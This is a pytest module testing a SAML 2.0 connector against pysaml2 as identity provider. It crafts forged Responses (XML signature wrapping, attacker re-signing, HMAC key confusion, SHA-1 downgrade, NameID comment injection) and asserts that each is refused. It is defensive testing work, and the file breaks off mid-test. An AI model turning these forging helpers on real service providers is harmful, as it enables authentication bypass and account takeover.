"""The SAML 2.0 connector against pysaml2 as a real IdP, and against the attacks SAML SPs fall to.

pysaml2 (which signs and encrypts with the ``xmlsec1`` binary) answers the AuthnRequests our connector
builds; its Responses go to ``handle_callback`` as the browser would POST them. Attacks are crafted from
genuine Responses: re-signed with signxml's XMLSigner where a crafted message needs a signature.

Every key and certificate here is a throwaway TEST FIXTURE generated per module run.
"""

from __future__ import annotations

import base64
import copy
import datetime
import functools
import os
import secrets
import shutil
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest
import saml2.entity
import saml2.sigver
from cryptography import x509
from cryptography.hazmat.primitives import hashes, padding, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric import padding as asym_padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.x509.oid import NameOID
from lxml import etree
from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT
from saml2.config import IdPConfig
from saml2.metadata import create_metadata_string
from saml2.response import IncorrectlySigned
from saml2.s_utils import UnknownPrincipal
from saml2.saml import NAME_FORMAT_URI, NAMEID_FORMAT_PERSISTENT, NAMEID_FORMAT_TRANSIENT
from saml2.server import Server
from signxml import methods
from signxml.signer import XMLSigner

from idhub.broker.connector import CallbackInput, Identity, LoginSecrets
from idhub.broker.connectors.saml import SamlConfig, SamlConnector, parse_idp_metadata, sp_metadata
from idhub.broker.errors import UpstreamConfigError, UpstreamRefused
from idhub.broker.saml_xml import DS, NS, SAML, SAMLP, XENC

XMLSEC1 = shutil.which("xmlsec1")
needs_xmlsec1 = pytest.mark.skipif(
    XMLSEC1 is None, reason="pysaml2, the test IdP, signs with the xmlsec1 binary (Debian package xmlsec1)"
)

IDP = "https://idp.example.test/idp"
SSO = "https://idp.example.test/sso/redirect"
ISSUER = "https://broker.example.test/tenants/acme"
SP = f"{ISSUER}/broker/corp/saml/metadata"
ACS = f"{ISSUER}/broker/corp/saml/acs"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
PPT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
ATTRIBUTES = {
    "mail": ["alice@corp.example"],
    "givenName": ["Alice"],
    "sn": ["Liddell"],
    "displayName": ["Alice Liddell"],
    "isMemberOf": ["staff", "admins"],
}


# -- test fixtures: throwaway keys --------------------------------------------------------------------


@dataclass(frozen=True)
class FixtureKeys:
    """A TEST FIXTURE key pair with a self-signed certificate; never use outside tests."""

    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
    key_pem: str
    cert_pem: str


def make_keys(common_name: str, *, curve: ec.EllipticCurve | None = None) -> FixtureKeys:
    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
    key = ec.generate_private_key(curve) if curve else rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=7))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    return FixtureKeys(key, key_pem, cert.public_bytes(serialization.Encoding.PEM).decode())


@pytest.fixture(scope="module")
def idp_keys() -> FixtureKeys:
    return make_keys("test-idp")


@pytest.fixture(scope="module")
def sp_keys() -> FixtureKeys:
    return make_keys("test-sp")


@pytest.fixture(scope="module")
def attacker_keys() -> FixtureKeys:
    return make_keys("test-idp")  # same subject as the real IdP: only the configured key must count


@pytest.fixture(scope="module")
def config(idp_keys: FixtureKeys, sp_keys: FixtureKeys) -> SamlConfig:
    return SamlConfig(
        sp_entity_id=SP,
        acs_url=ACS,
        idp_entity_id=IDP,
        idp_sso_url=SSO,
        idp_certificates=(idp_keys.cert_pem,),
        sp_private_key_pem=sp_keys.key_pem,
        sp_certificate_pem=sp_keys.cert_pem,
    )


# -- pysaml2 as the IdP ---------------------------------------------------------------------------------


def new_request_id() -> str:
    return "_" + secrets.token_hex(20)


def build_idp(folder: Path, idp_keys: FixtureKeys, sp_config: SamlConfig, **idp_service: Any) -> Server:
    (folder / "idp.key").write_text(idp_keys.key_pem)
    (folder / "idp.crt").write_text(idp_keys.cert_pem)
    conf = IdPConfig()
    conf.load(
        {
            "entityid": IDP,
            "service": {
                "idp": {
                    "endpoints": {"single_sign_on_service": [(SSO, BINDING_HTTP_REDIRECT)]},
                    "policy": {"default": {"lifetime": {"minutes": 15}, "name_form": NAME_FORMAT_URI}},
                    "name_id_format": [NAMEID_FORMAT_PERSISTENT, NAMEID_FORMAT_TRANSIENT],
                    **idp_service,
                }
            },
            "key_file": str(folder / "idp.key"),
            "cert_file": str(folder / "idp.crt"),
            "xmlsec_binary": XMLSEC1,
            "metadata": {"inline": [sp_metadata(sp_config).decode()]},
        }
    )
    return Server(config=conf)


class Peer:
    """Our connector and a pysaml2 IdP that answers its AuthnRequests."""

    def __init__(self, server: Server, config: SamlConfig) -> None:
        self.server = server
        self.config = config

    def connector(self, **changes: Any) -> SamlConnector:
        return SamlConnector(replace(self.config, **changes))

    async def request(self, request_id: str, connector: SamlConnector | None = None) -> Any:
        start = await (connector or self.connector()).login_url(
            state="opaque-state", callback_url=ACS, secrets=LoginSecrets("n", "v", request_id)
        )
        query = {k: v[0] for k, v in parse_qs(urlparse(start.url).query).items()}
        return self.server.parse_authn_request(
            query["SAMLRequest"],
            BINDING_HTTP_REDIRECT,
            relay_state=query.get("RelayState"),
            sigalg=query.get("SigAlg"),
            signature=query.get("Signature"),
        )

    async def response(
        self,
        request_id: str,
        *,
        sign_assertion: bool = True,
        sign_response: bool = False,
        sign_alg: str = RSA_SHA256,
        digest_alg: str = SHA256,
        encrypt: tuple[str, str] | None = None,  # (content algorithm, xmlsec1 session key type)
        key_transport: str | None = None,
        unsolicited: bool = False,
        destination: str = ACS,
        name_id_format: str | None = None,
    ) -> bytes:
        """Run the AuthnRequest through pysaml2 and return its Response XML."""
        request = await self.request(request_id)
        policy = request.message.name_id_policy
        if name_id_format is not None:
            policy = copy.copy(policy)
            policy.format = name_id_format
        kwargs: dict[str, Any] = {}
        if encrypt is not None:
            kwargs = {"encrypt_assertion": True, "encrypt_cert_assertion": self.config.sp_certificate_pem}
        original_template = saml2.entity.pre_encryption_part
        original_encrypt = self.server.sec.encrypt_assertion
        if encrypt is not None:
            template_args = {"msg_enc": encrypt[0]}
            if key_transport:
                template_args["key_enc"] = key_transport
            saml2.entity.pre_encryption_part = functools.partial(saml2.sigver.pre_encryption_part, **template_args)
            self.server.sec.encrypt_assertion = functools.partial(original_encrypt, key_type=encrypt[1])
        try:
            answer = self.server.create_authn_response(
                dict(ATTRIBUTES),
                None if unsolicited else request.message.id,
                destination,
                SP,
                name_id_policy=policy,
                userid="alice",
                authn={"class_ref": PPT, "authn_auth": IDP},
                sign_assertion=sign_assertion,
                sign_response=sign_response,
                sign_alg=sign_alg,
                digest_alg=digest_alg,
                **kwargs,
            )
        finally:
            saml2.entity.pre_encryption_part = original_template
            self.server.sec.encrypt_assertion = original_encrypt
        return str(answer).encode()


@pytest.fixture(scope="module")
def peer(tmp_path_factory: pytest.TempPathFactory, idp_keys: FixtureKeys, config: SamlConfig) -> Peer:
    if XMLSEC1 is None:
        pytest.skip("pysaml2, the test IdP, signs with the xmlsec1 binary (Debian package xmlsec1)")
    return Peer(build_idp(tmp_path_factory.mktemp("idp"), idp_keys, config), config)


async def post(
    connector: SamlConnector, xml: bytes, *, request_id: str | None, extra: dict[str, str] | None = None
) -> Identity:
    params = {"SAMLResponse": base64.b64encode(xml).decode(), "RelayState": "opaque-state", **(extra or {})}
    return await connector.handle_callback(CallbackInput(params=params, request_id=request_id), callback_url=ACS)


async def refused(connector: SamlConnector, xml: bytes, *, request_id: str | None) -> str:
    with pytest.raises(UpstreamRefused) as caught:
        await post(connector, xml, request_id=request_id)
    return caught.value.reason


# -- crafting tools ---------------------------------------------------------------------------------------


def tree(xml: bytes) -> etree._Element:
    return etree.fromstring(xml, parser=etree.XMLParser(remove_blank_text=False))


def assertion_of(root: etree._Element) -> etree._Element:
    return root.find("saml:Assertion", NS)


def sign_inside(
    root: etree._Element,
    element: etree._Element,
    keys: FixtureKeys | None,
    *,
    algorithm: str = "rsa-sha256",
    digest: str = "sha256",
    hmac_key: bytes | None = None,
    signer_class: type[XMLSigner] = XMLSigner,
) -> etree._Element:
    """Sign ``element`` of ``root`` with an enveloped signature after its Issuer (Core §5.4.2); return the new root."""
    for old in element.findall("ds:Signature", NS):
        element.remove(old)
    element.find("saml:Issuer", NS).addnext(etree.Element(f"{{{DS}}}Signature", Id="placeholder"))
    signer = signer_class(
        method=methods.enveloped, signature_algorithm=algorithm, digest_algorithm=digest, c14n_algorithm=EXC_C14N
    )
    if hmac_key is not None:
        return signer.sign(root, key=hmac_key, reference_uri=element.get("ID"))
    assert keys is not None
    return signer.sign(root, key=keys.key, cert=keys.cert_pem, reference_uri=element.get("ID"))


def resign_assertion(
    xml: bytes, edit: Callable[[etree._Element], None], keys: FixtureKeys, **sign_args: Any
) -> tuple[bytes, etree._Element]:
    """Edit the assertion of a genuine Response and sign it again with ``keys`` (drops a Response signature)."""
    root = tree(xml)
    for old in root.findall("ds:Signature", NS):
        root.remove(old)
    assertion = assertion_of(root)
    edit(assertion)
    signed = sign_inside(root, assertion, keys, **sign_args)
    return etree.tostring(signed), signed


def set_name_id(value: str) -> Callable[[etree._Element], None]:
    def edit(assertion: etree._Element) -> None:
        assertion.find("saml:Subject/saml:NameID", NS).text = value

    return edit


class Sha1Signer(XMLSigner):
    """An XMLSigner that will sign with SHA-1, as a legacy IdP would (signxml refuses by default)."""

    def check_deprecated_methods(self) -> None:
        return None


# -- happy paths ---------------------------------------------------------------------------------------------


@needs_xmlsec1
async def test_login_url_authn_request_accepted_by_pysaml2(peer: Peer) -> None:
    request_id = new_request_id()
    start = await peer.connector().login_url(
        state="opaque-state", callback_url=ACS, secrets=LoginSecrets("n", "v", request_id)
    )
    query = parse_qs(urlparse(start.url).query)
    assert start.url.startswith(SSO + "?")
    assert query["RelayState"] == ["opaque-state"]
    xml = zlib.decompress(base64.b64decode(query["SAMLRequest"][0]), -15)  # raw DEFLATE (Bindings §3.4.4.1)
    request = tree(xml)
    assert request.tag == f"{{{SAMLP}}}AuthnRequest"
    assert request.get("ID") == request_id
    assert request.get("Destination") == SSO
    assert request.get("AssertionConsumerServiceURL") == ACS
    assert request.get("ProtocolBinding") == BINDING_HTTP_POST
    assert request.find("saml:Issuer", NS).text == SP
    parsed = await peer.request(request_id)  # pysaml2 checks Destination, ACS URL against our metadata, schema
    assert parsed.message.id == request_id
    assert parsed.message.assertion_consumer_service_url == ACS


@needs_xmlsec1
async def test_signed_assertion_from_pysaml2_gives_identity(peer: Peer) -> None:
    request_id = new_request_id()
    identity = await post(peer.connector(), await peer.response(request_id), request_id=request_id)
    assert identity.issuer == IDP
    assert identity.subject and len(identity.subject) > 16  # pysaml2's persistent NameID
    assert identity.email == "alice@corp.example"
    assert identity.email_verified is False
    assert (identity.given_name, identity.family_name, identity.name) == ("Alice", "Liddell", "Alice Liddell")
    assert identity.groups == ("staff", "admins")
    assert identity.acr == PPT
    assert identity.amr == ()
    claims = identity.claims
    assert claims["attributes"]["urn:oid:0.9.2342.19200300.100.1.3"] == ["alice@corp.example"]
    assert claims["assertion_id"]
    assert claims["session_index"]
    assert claims["not_on_or_after"] > time.time()
    assert claims["transient_name_id"] is False


@needs_xmlsec1
async def test_signed_response_unsigned_assertion_gives_identity(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, sign_assertion=False, sign_response=True)
    identity = await post(peer.connector(), xml, request_id=request_id)
    assert identity.email == "alice@corp.example"


@needs_xmlsec1
async def test_signed_response_and_assertion_gives_identity(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, sign_assertion=True, sign_response=True)
    assert (await post(peer.connector(), xml, request_id=request_id)).issuer == IDP


@needs_xmlsec1
async def test_same_subject_on_every_sign_in(peer: Peer) -> None:
    subjects = set()
    for _ in range(2):
        request_id = new_request_id()
        subjects.add((await post(peer.connector(), await peer.response(request_id), request_id=request_id)).subject)
    assert len(subjects) == 1


@needs_xmlsec1
async def test_transient_name_id_used_but_flagged(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, name_id_format=NAMEID_FORMAT_TRANSIENT)
    identity = await post(peer.connector(), xml, request_id=request_id)
    assert identity.claims["transient_name_id"] is True
    assert identity.claims["name_id_format"] == NAMEID_FORMAT_TRANSIENT


@needs_xmlsec1
async def test_second_configured_certificate_verifies_during_rotation(peer: Peer, attacker_keys: FixtureKeys) -> None:
    connector = peer.connector(idp_certificates=(attacker_keys.cert_pem, *peer.config.idp_certificates))
    request_id = new_request_id()
    assert (await post(connector, await peer.response(request_id), request_id=request_id)).issuer == IDP


@needs_xmlsec1
async def test_ecdsa_sha256_signature_accepted(peer: Peer) -> None:
    ec_keys = make_keys("test-idp-ec", curve=ec.SECP256R1())
    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), lambda a: None, ec_keys, algorithm="ecdsa-sha256")
    connector = peer.connector(idp_certificates=(ec_keys.cert_pem,))
    assert (await post(connector, xml, request_id=request_id)).issuer == IDP


@needs_xmlsec1
async def test_idp_initiated_accepted_only_when_allowed(peer: Peer) -> None:
    xml = await peer.response(new_request_id(), unsolicited=True)
    assert await refused(peer.connector(), xml, request_id=None) == "unsolicited"
    identity = await post(peer.connector(allow_idp_initiated=True), xml, request_id=None)
    assert identity.email == "alice@corp.example"


@needs_xmlsec1
async def test_signed_authn_request_verified_by_pysaml2(
    tmp_path: Path, idp_keys: FixtureKeys, config: SamlConfig
) -> None:
    signing = replace(config, sign_authn_requests=True)
    server = build_idp(tmp_path, idp_keys, signing, want_authn_requests_signed=True)
    signed_peer = Peer(server, signing)
    request_id = new_request_id()
    parsed = await signed_peer.request(request_id)
    assert parsed.message.id == request_id
    assert b'use="signing"' in sp_metadata(signing) and b'AuthnRequestsSigned="true"' in sp_metadata(signing)
    unsigned = Peer(server, config)  # the same IdP refuses an unsigned request: the signature was checked
    with pytest.raises(IncorrectlySigned):
        await unsigned.request(new_request_id())


# -- encrypted assertions --------------------------------------------------------------------------------------

AES256_CBC = (f"{XENC}aes256-cbc", "aes-256")
AES128_GCM = ("http://www.w3.org/2009/xmlenc11#aes128-gcm", "aes-128")
AES256_GCM = ("http://www.w3.org/2009/xmlenc11#aes256-gcm", "aes-256")


@needs_xmlsec1
@pytest.mark.parametrize("encrypt", [AES256_CBC, AES128_GCM], ids=["aes256-cbc", "aes128-gcm"])
async def test_encrypted_signed_assertion_decrypted_without_xmlsec(peer: Peer, encrypt: tuple[str, str]) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, encrypt=encrypt)
    assert b"EncryptedAssertion" in xml and b"alice@corp.example" not in xml
    assert (await post(peer.connector(), xml, request_id=request_id)).email == "alice@corp.example"


@needs_xmlsec1
async def test_encrypted_assertion_in_signed_response_accepted(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, sign_assertion=False, sign_response=True, encrypt=AES256_GCM)
    assert (await post(peer.connector(), xml, request_id=request_id)).email == "alice@corp.example"


@needs_xmlsec1
async def test_encrypted_unsigned_assertion_refused(peer: Peer) -> None:
    # anyone holding the SP's public certificate can encrypt: encryption is no signature
    request_id = new_request_id()
    xml = await peer.response(request_id, sign_assertion=False, encrypt=AES256_CBC)
    assert await refused(peer.connector(), xml, request_id=request_id) == "unsigned"


@needs_xmlsec1
async def test_triple_des_encryption_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, encrypt=(f"{XENC}tripledes-cbc", "des-192"))  # pysaml2's default
    assert await refused(peer.connector(), xml, request_id=request_id) == "weak_encryption"


@needs_xmlsec1
async def test_rsa_1_5_key_transport_refused(peer: Peer, sp_keys: FixtureKeys) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id))
    assertion = assertion_of(root)
    encrypted = encrypt_for_sp(etree.tostring(assertion), sp_keys, key_transport=f"{XENC}rsa-1_5")
    root.replace(assertion, encrypted)
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "weak_encryption"


@needs_xmlsec1
async def test_encrypted_assertion_without_sp_key_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, encrypt=AES256_CBC)
    connector = peer.connector(sp_private_key_pem=None)
    assert await refused(connector, xml, request_id=request_id) == "decrypt_failed"


def encrypt_for_sp(
    plaintext: bytes, sp_keys: FixtureKeys, *, key_transport: str, container: str = "EncryptedAssertion"
) -> etree._Element:
    """Build an EncryptedAssertion/EncryptedID with AES-256-CBC and the given key transport (crafted here)."""
    content_key, iv = os.urandom(32), os.urandom(16)
    padder = padding.PKCS7(128).padder()
    encryptor = Cipher(algorithms.AES(content_key), modes.CBC(iv)).encryptor()
    blob = iv + encryptor.update(padder.update(plaintext) + padder.finalize()) + encryptor.finalize()
    public = x509.load_pem_x509_certificate(sp_keys.cert_pem.encode()).public_key()
    assert isinstance(public, rsa.RSAPublicKey)
    if key_transport == f"{XENC}rsa-1_5":
        wrapped = public.encrypt(content_key, asym_padding.PKCS1v15())
    else:
        oaep = asym_padding.OAEP(mgf=asym_padding.MGF1(hashes.SHA1()), algorithm=hashes.SHA1(), label=None)
        wrapped = public.encrypt(content_key, oaep)
    element = etree.Element(f"{{{SAML}}}{container}", nsmap={"saml": SAML, "xenc": XENC, "ds": DS})
    data = etree.SubElement(element, f"{{{XENC}}}EncryptedData", Type=f"{XENC}Element")
    etree.SubElement(data, f"{{{XENC}}}EncryptionMethod", Algorithm=f"{XENC}aes256-cbc")
    key = etree.SubElement(etree.SubElement(data, f"{{{DS}}}KeyInfo"), f"{{{XENC}}}EncryptedKey")
    etree.SubElement(key, f"{{{XENC}}}EncryptionMethod", Algorithm=key_transport)
    cipher = etree.SubElement(etree.SubElement(key, f"{{{XENC}}}CipherData"), f"{{{XENC}}}CipherValue")
    cipher.text = base64.b64encode(wrapped).decode()
    value = etree.SubElement(etree.SubElement(data, f"{{{XENC}}}CipherData"), f"{{{XENC}}}CipherValue")
    value.text = base64.b64encode(blob).decode()
    return element


@needs_xmlsec1
async def test_encrypted_name_id_decrypted(peer: Peer, idp_keys: FixtureKeys, sp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        name_id = assertion.find("saml:Subject/saml:NameID", NS)
        name_id.text = "opaque-subject-42"
        plaintext = etree.tostring(name_id)
        encrypted = encrypt_for_sp(plaintext, sp_keys, key_transport=f"{XENC}rsa-oaep-mgf1p", container="EncryptedID")
        name_id.getparent().replace(name_id, encrypted)

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert b"opaque-subject-42" not in xml
    assert (await post(peer.connector(), xml, request_id=request_id)).subject == "opaque-subject-42"


# -- signature attacks -----------------------------------------------------------------------------------------


@needs_xmlsec1
async def test_unsigned_response_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, sign_assertion=False, sign_response=False)
    assert await refused(peer.connector(), xml, request_id=request_id) == "unsigned"


@needs_xmlsec1
async def test_assertion_edited_after_signing_refused(peer: Peer) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id))
    assertion_of(root).find("saml:Subject/saml:NameID", NS).text = "admin"
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "bad_signature"


@needs_xmlsec1
async def test_attacker_key_with_its_certificate_in_keyinfo_refused(peer: Peer, attacker_keys: FixtureKeys) -> None:
    request_id = new_request_id()
    xml, root = resign_assertion(await peer.response(request_id), set_name_id("admin"), attacker_keys)
    keyinfo_cert = root.find(".//ds:X509Certificate", NS).text
    assert keyinfo_cert and keyinfo_cert.replace("\n", "") in attacker_keys.cert_pem.replace("\n", "")
    assert await refused(peer.connector(), xml, request_id=request_id) == "bad_signature"


@needs_xmlsec1
async def test_attacker_signed_response_around_unsigned_assertion_refused(
    peer: Peer, attacker_keys: FixtureKeys
) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id, sign_assertion=False, sign_response=False))
    signed = sign_inside(root, root, attacker_keys)
    assert await refused(peer.connector(), etree.tostring(signed), request_id=request_id) == "bad_signature"


@needs_xmlsec1
async def test_sha1_signature_from_pysaml2_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, sign_alg=RSA_SHA1, digest_alg=SHA1)  # pysaml2's own default
    assert await refused(peer.connector(), xml, request_id=request_id) == "weak_algorithm"


@needs_xmlsec1
async def test_sha1_digest_under_sha256_signature_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    request_id = new_request_id()
    xml, _ = resign_assertion(
        await peer.response(request_id), lambda a: None, idp_keys, digest="sha1", signer_class=Sha1Signer
    )
    assert await refused(peer.connector(), xml, request_id=request_id) == "weak_algorithm"


@needs_xmlsec1
async def test_hmac_signature_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    # keyed with the IdP's public certificate, which anyone can read from its metadata
    request_id = new_request_id()
    xml, _ = resign_assertion(
        await peer.response(request_id),
        set_name_id("admin"),
        idp_keys,
        algorithm="hmac-sha256",
        hmac_key=idp_keys.cert_pem.encode(),
    )
    assert await refused(peer.connector(), xml, request_id=request_id) == "weak_algorithm"


def _evil_copy(assertion: etree._Element, *, keep_signature: bool = False) -> etree._Element:
    evil = copy.deepcopy(assertion)
    evil.set("ID", "_evil" + secrets.token_hex(8))
    evil.find("saml:Subject/saml:NameID", NS).text = "admin"
    if not keep_signature:
        for signature in evil.findall("ds:Signature", NS):
            evil.remove(signature)
    return evil


@needs_xmlsec1
@pytest.mark.parametrize("where", ["before", "after"])
async def test_xsw_second_unsigned_assertion_refused(peer: Peer, where: str) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id))
    genuine = assertion_of(root)
    evil = _evil_copy(genuine)
    (genuine.addprevious if where == "before" else genuine.addnext)(evil)
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "assertion_count"


@needs_xmlsec1
async def test_xsw_signed_assertion_moved_to_extensions_refused(peer: Peer) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id))
    genuine = assertion_of(root)
    evil = _evil_copy(genuine)
    root.replace(genuine, evil)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(genuine)
    root.find("saml:Issuer", NS).addnext(extensions)
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "assertion_count"


@needs_xmlsec1
async def test_xsw_signed_assertion_inside_signature_object_refused(peer: Peer) -> None:
    # the evil assertion carries the genuine signature; the genuine assertion hides in its ds:Object
    request_id = new_request_id()
    root = tree(await peer.response(request_id))
    genuine = assertion_of(root)
    evil = _evil_copy(genuine, keep_signature=True)
    root.replace(genuine, evil)
    for signature in genuine.findall("ds:Signature", NS):
        genuine.remove(signature)
    etree.SubElement(evil.find("ds:Signature", NS), f"{{{DS}}}Object").append(genuine)
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "assertion_count"


@needs_xmlsec1
async def test_xsw_signed_response_wrapped_in_evil_response_refused(peer: Peer) -> None:
    request_id = new_request_id()
    genuine = tree(await peer.response(request_id, sign_assertion=False, sign_response=True))
    evil = copy.deepcopy(genuine)
    evil.set("ID", "_evil" + secrets.token_hex(8))
    evil.remove(evil.find("ds:Signature", NS))
    assertion_of(evil).find("saml:Subject/saml:NameID", NS).text = "admin"
    evil.find("saml:Issuer", NS).addnext(genuine.find("ds:Signature", NS))  # the genuine signature, on the evil root
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(genuine)
    evil.find("ds:Signature", NS).addnext(extensions)
    assert await refused(peer.connector(), etree.tostring(evil), request_id=request_id) == "assertion_count"


@needs_xmlsec1
async def test_response_signature_moved_into_assertion_refused(peer: Peer) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id, sign_assertion=False, sign_response=True))
    signature = root.find("ds:Signature", NS)
    assertion_of(root).find("saml:Issuer", NS).addnext(signature)
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "wrong_reference"


@needs_xmlsec1
async def test_duplicate_id_elsewhere_refused(peer: Peer) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id))
    decoy = etree.Element(f"{{{SAMLP}}}Extensions", ID=assertion_of(root).get("ID"))
    root.find("saml:Issuer", NS).addnext(decoy)
    assert await refused(peer.connector(), etree.tostring(root), request_id=request_id) == "bad_signature"


@needs_xmlsec1
async def test_comment_injection_in_name_id_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    request_id = new_request_id()
    xml, root = resign_assertion(await peer.response(request_id), set_name_id("user@corp.example.evil.com"), idp_keys)
    # control: the re-signed assertion is accepted as it stands
    assert (await post(peer.connector(), xml, request_id=request_id)).subject == "user@corp.example.evil.com"
    name_id = assertion_of(root).find("saml:Subject/saml:NameID", NS)
    name_id.text = "user@corp.example"
    comment = etree.Comment("")
    comment.tail = ".evil.com"
    name_id.append(comment)  # user@corp.example<!---->.evil.com: exclusive C14N drops it, the signature holds
    injected = etree.tostring(root)
    assert b"user@corp.example<!---->.evil.com" in injected
    assert await refused(peer.connector(), injected, request_id=request_id) == "comment_in_value"


@needs_xmlsec1
async def test_element_inside_name_id_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        name_id = assertion.find("saml:Subject/saml:NameID", NS)
        name_id.text = "user@corp.example"
        etree.SubElement(name_id, f"{{{SAML}}}Extra").tail = ".evil.com"

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "element_in_value"


# -- Response and Assertion rules --------------------------------------------------------------------------------


@needs_xmlsec1
async def test_wrong_audience_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        assertion.find("saml:Conditions/saml:AudienceRestriction/saml:Audience", NS).text = "https://other.example/sp"

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "wrong_audience"


@needs_xmlsec1
async def test_other_sp_entity_id_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id)
    connector = peer.connector(sp_entity_id="https://broker.example.test/tenants/other/broker/corp/saml/metadata")
    assert await refused(connector, xml, request_id=request_id) == "wrong_audience"


@needs_xmlsec1
async def test_wrong_destination_refused(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, destination="https://evil.example/acs")
    assert await refused(peer.connector(), xml, request_id=request_id) == "wrong_destination"


@needs_xmlsec1
async def test_signed_response_without_destination_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    request_id = new_request_id()
    root = tree(await peer.response(request_id, sign_assertion=False, sign_response=False))
    del root.attrib["Destination"]
    signed = sign_inside(root, root, idp_keys)
    assert await refused(peer.connector(), etree.tostring(signed), request_id=request_id) == "wrong_destination"


@needs_xmlsec1
async def test_wrong_recipient_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        data = assertion.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS)
        data.set("Recipient", "https://evil.example/acs")

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "wrong_recipient"


@needs_xmlsec1
async def test_response_for_another_request_refused(peer: Peer) -> None:
    xml = await peer.response(new_request_id())
    assert await refused(peer.connector(), xml, request_id=new_request_id()) == "wrong_in_response_to"


@needs_xmlsec1
async def test_assertion_in_response_to_another_request_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        data = assertion.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS)
        data.set("InResponseTo", new_request_id())

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "wrong_in_response_to"


@needs_xmlsec1
async def test_solicited_response_refused_as_idp_initiated(peer: Peer) -> None:
    xml = await peer.response(new_request_id())
    assert await refused(peer.connector(allow_idp_initiated=True), xml, request_id=None) == "wrong_in_response_to"


@needs_xmlsec1
async def test_unsolicited_response_refused_for_pending_request(peer: Peer) -> None:
    request_id = new_request_id()
    xml = await peer.response(request_id, unsolicited=True)
    assert await refused(peer.connector(allow_idp_initiated=True), xml, request_id=request_id) == (
        "wrong_in_response_to"
    )


@needs_xmlsec1
async def test_wrong_assertion_issuer_refused(peer: Peer, idp_keys: FixtureKeys) -> None:
    def edit(assertion: etree._Element) -> None:
        assertion.find("saml:Issuer", NS).text = "https://other-idp.example/idp"

    request_id = new_request_id()
    xml, _ = resign_assertion(await peer.response(request_id), edit, idp_keys)
    assert await refused(peer.connector(), xml, request_id=request_id) == "wrong_issuer"


@needs_xmlsec1
async def test_other_idp_entity_id_refused(peer: Peer) -> None:
